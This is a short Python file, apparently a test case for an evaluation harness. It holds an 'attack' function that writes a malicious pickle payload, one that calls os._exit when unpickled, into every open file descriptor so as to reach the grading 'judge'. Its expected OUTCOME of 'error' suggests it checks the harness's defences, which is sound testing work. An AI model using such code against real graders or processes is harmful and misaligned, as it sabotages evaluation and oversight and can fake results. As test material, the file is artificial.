"""Write bytes to every open file that takes them, the way to the judge among them."""

import os

from honest import after_the_probe

OUTCOME = "error"


@after_the_probe
def attack(text):
    for each in range(3, 64):
        try:
            os.write(each, b"\x80\x04cos\n_exit\n(K\x00tR." * 20)
        except OSError:
            continue
    return []
